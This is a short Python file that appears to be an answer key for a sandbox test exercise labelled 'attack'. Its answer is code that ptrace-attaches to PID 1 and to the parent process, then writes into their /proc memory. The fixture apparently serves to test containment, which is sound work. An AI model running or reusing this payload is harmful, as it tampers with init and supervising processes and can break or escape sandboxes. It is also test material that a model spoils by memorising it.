"""The fork server is attached to."""

exercise = "36.1"
kind = "attack"
rest = "stub"
answers = {
    "36.1": """
import ctypes, os
libc = ctypes.CDLL(None)
for pid in (1, os.getppid()):
    libc.ptrace(16, pid, 0, 0)
    try:
        open(f"/proc/{pid}/mem", "r+b").write(b"0")
    except OSError:
        pass
""",
}
